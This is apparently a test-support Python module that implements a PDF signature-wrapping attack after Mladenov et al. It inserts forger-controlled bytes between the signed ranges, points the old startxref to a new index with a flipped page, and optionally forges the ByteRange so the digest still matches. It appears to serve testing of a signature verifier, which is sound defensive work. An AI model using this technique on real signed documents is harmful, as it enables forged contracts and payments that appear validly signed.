"""Signature wrapping (Mladenov et al., "1 Trillion Dollar Refund", CCS 2019): signed bytes stay, others are put between.

The second part that the signature covers moves to the end of the file; what comes between is the forger's. The old
`startxref` then points into the forger's part, where an index of his own lies. Works on the small PDFs of
tests/support/pdf_builder.py, in which object 3 is the page and 5 the signature.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

_CLOSE = b" >>\nendobj\n"
_TURNED_PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 9 0 R /Annots [4 0 R] /Rotate 180 >>"
)


@dataclass(frozen=True)
class _Sealed:
    """Where things lie in the sealed file; `offsets` of its objects, the first is that of object 1."""

    data: bytes
    before: int
    after: int
    start: int
    offsets: list[int]

    @classmethod
    def of(cls, data: bytes) -> _Sealed:
        ranges = re.search(rb"/ByteRange \[0 (\d+) (\d+) ", data)
        assert ranges is not None
        [start] = re.findall(rb"startxref\n(\d+)", data)
        offsets = re.findall(rb"(\d{10}) 00000 n", data)
        return cls(data, int(ranges[1]), int(ranges[2]), int(start), [*map(int, offsets)])


def wrapped(pdf: bytes, *, with_own_ranges: bool) -> bytes:
    """The page turned upside down in a file of which the signed bytes are all there.

    With own ranges the signature dictionary is forged too and covers the moved part where it lies now: the digest fits.
    """
    sealed = _Sealed.of(pdf)
    size = len(_between(sealed, 0, with_own_ranges=with_own_ranges))
    between = _between(sealed, size, with_own_ranges=with_own_ranges)
    assert len(between) == size
    return pdf[: sealed.after] + between + pdf[sealed.after :]


def _between(sealed: _Sealed, size: int, *, with_own_ranges: bool) -> bytes:
    objects = {3: _TURNED_PAGE}
    if with_own_ranges:
        objects[5] = _signature(sealed, size)
    count = len(sealed.offsets)
    trailer = b"trailer\n<< /Size %d /Root 1 0 R /Info 8 0 R >>\n" % (count + 1)
    head = _CLOSE.ljust(sealed.start - sealed.after, b"\n")
    index = b"xref\n0 %d\n0000000000 65535 f \n" % (count + 1)
    place = sealed.start + len(index) + 20 * count + len(trailer)
    offsets = [one if one < sealed.after else one + size for one in sealed.offsets]
    body = b""
    for number, content in objects.items():
        offsets[number - 1] = place + len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    return head + index + b"".join(b"%010d 00000 n \n" % one for one in offsets) + trailer + body


def _signature(sealed: _Sealed, size: int) -> bytes:
    """The signature dictionary with the same seal, and ranges that leave out what was put between."""
    own = sealed.data[sealed.offsets[4] : sealed.after].split(b"obj\n", 1)[1] + b" >>"
    rest = len(sealed.data) - sealed.after
    ranges = b"0 %d %d %d" % (sealed.before, sealed.after + size, rest)
    return re.sub(rb"/ByteRange \[[\d ]+\]", b"/ByteRange [%-43s]" % ranges, own)
